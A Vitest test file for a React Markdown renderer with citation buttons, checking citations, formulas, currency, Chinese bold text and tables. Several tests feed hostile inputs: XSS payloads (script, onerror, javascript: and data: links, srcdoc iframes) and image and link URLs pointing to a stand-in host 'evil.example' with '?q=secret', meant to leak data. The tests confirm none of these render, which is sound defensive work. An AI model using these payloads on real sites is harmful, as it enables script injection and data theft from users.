// @vitest-environment jsdom
import { cleanup, render, screen } from "@testing-library/react";
import userEvent from "@testing-library/user-event";
import { afterEach, expect, test } from "vitest";
import { LanguageProvider } from "../app/language.tsx";
import { CitationProvider } from "./citation.tsx";
import { Markdown } from "./markdown.tsx";

afterEach(cleanup);

function draw(text: string, known: number[] = [1, 2], onOpen: (n: number) => void = () => {}) {
  const { container } = render(
    <LanguageProvider initial="en">
      <CitationProvider known={new Set(known)} onOpen={onOpen}>
        <Markdown text={text} />
      </CitationProvider>
    </LanguageProvider>,
  );
  return container;
}

test("a citation is a button for every number that has a source", async () => {
  const opened: number[] = [];
  draw("Fifteen days [1][2], see [1, 2] and 【2】.", [1, 2], (n) => opened.push(n));

  const buttons = screen.getAllByRole("button");
  expect(buttons.map((button) => button.textContent)).toEqual(["1", "2", "1", "2", "2"]);
  await userEvent.click(buttons[1] ?? document.body);

  expect(opened).toEqual([2]);
});

test("a doubtful statement has a mark behind its citation, which says why", () => {
  render(
    <LanguageProvider initial="en">
      <CitationProvider known={new Set([1])} onOpen={() => {}}>
        <Markdown
          text={"Fifteen days [1]. Thirty days [1].\n\n- Forty days [1]."}
          doubted={["Thirty days", "Forty days"]}
        />
      </CitationProvider>
    </LanguageProvider>,
  );

  const names = screen.getAllByRole("button").map((button) => button.getAttribute("aria-label")?.slice(0, 14));
  expect(names).toEqual(["Show source 1", "Show source 1", "The cited pass", "Show source 1", "The cited pass"]);
});

test("a number without a source stays text", () => {
  const drawn = draw("As in [3] and in array[0], see [2024].", [1]);

  expect(screen.queryByRole("button")).toBeNull();
  expect(drawn.textContent).toBe("As in [3] and in array[0], see [2024].");
});

test("a link definition in a passage does not take a citation over", () => {
  const drawn = draw("Fifteen days [1].\n\n[1]: http://evil.example/?q=secret\n\n[^1]: note");

  expect(screen.getAllByRole("button", { name: "Show source 1" })).toHaveLength(2);
  expect([...drawn.querySelectorAll("a")].map((link) => link.textContent)).not.toContain("1");
});

test("no image from elsewhere is loaded, by whatever way it is written", () => {
  const drawn = draw(
    [
      "![a](https://evil.example/?q=secret)",
      "![b](//evil.example/x)",
      "![c][ref]",
      "![d](/api/documents/../../c)",
      "![e](javascript:alert(1))",
      "![f](data:image/svg+xml;base64,AAAA)",
      '<img src="https://evil.example/y" onerror="alert(1)">',
      "",
      "[ref]: https://evil.example/z",
    ].join("\n\n"),
  );

  expect(drawn.querySelectorAll("img")).toHaveLength(0);
  expect(drawn.textContent).toContain("a");
});

test("raw HTML is never HTML: no script, no style, no frame, no handler", () => {
  const hostile = [
    "<script>alert(1)</script>",
    "<style>body{display:none}</style>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<div style="position:fixed;inset:0" onclick="alert(1)">over everything</div>',
    '<a href="javascript:alert(1)">x</a>',
    "<svg><script>alert(1)</script></svg>",
    '<math><mtext><img src="x" onerror="alert(1)"></mtext></math>',
    "[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1)) [z](data:text/html,<script>alert(1)</script>)",
    "`<img src=x onerror=alert(1)>`",
    "$\\href{javascript:alert(1)}{x}$",
  ];

  for (const markdown of hostile) {
    const drawn = draw(markdown);
    expect(
      drawn.querySelectorAll("script, style, iframe, img, svg:not(.anticon svg), object, embed, form"),
    ).toHaveLength(0);
    for (const element of drawn.querySelectorAll("*")) {
      expect(
        [...element.attributes].filter(({ name }) => name.startsWith("on") || name === "style" || name === "srcdoc"),
      ).toEqual([]);
      expect(element.getAttribute("href") ?? "").not.toMatch(/^\s*(javascript|data|vbscript):/i);
    }
    cleanup();
  }
});

test("what looks like a tag and is none is shown as it is written", () => {
  const drawn = draw("A List<String> of rows<br>and a Map<K, V>. <!-- hidden --><a name='x'></a>");

  expect(drawn.textContent?.replace(/\s+/g, " ")).toBe("A List<String> of rows and a Map<K, V>. ");
  expect(drawn.querySelector("br")).not.toBeNull();
});

test("money is not a formula", () => {
  const drawn = draw("From $5 to $10 [1], later **$20** or $30.");

  expect(drawn.textContent).toBe("From $5 to $10 1, later $20 or $30.");
  expect(screen.getByRole("button", { name: "Show source 1" })).toBeTruthy();
});

test("money and a formula stand in one line", async () => {
  const drawn = draw("It needs $n \\times 1.4$ GB and costs from $5 to $10 or 5 到 $20。");

  await expect.poll(() => drawn.querySelectorAll(".katex"), { timeout: 10_000 }).toHaveLength(1);
  expect(drawn.textContent).toContain("costs from $5 to $10 or 5 到 $20。");
});

test("a formula is typeset once its typesetter has loaded", async () => {
  const drawn = draw("The area is $a^2$.");

  await expect.poll(() => drawn.querySelector(".katex"), { timeout: 10_000 }).not.toBeNull();
});

test("bold next to Chinese characters is bold", () => {
  const drawn = draw("**注意：**请先申请。年假为**15天**（含）");

  expect([...drawn.querySelectorAll("strong")].map((element) => element.textContent)).toEqual(["注意：", "15天"]);
});

test("hostile brackets are read to their end", () => {
  const hostile = `${"[".repeat(5_000)} ${"[1".repeat(2_000)} ${"【".repeat(2_000)}`;

  expect(draw(hostile).textContent).toBe(hostile);
});

test("a wide table scrolls by itself and can be reached by keyboard", () => {
  draw("| a | b |\n| --- | ---: |\n| 1 | 2 |");

  expect(screen.getByRole("group", { name: "Table" }).getAttribute("tabindex")).toBe("0");
});
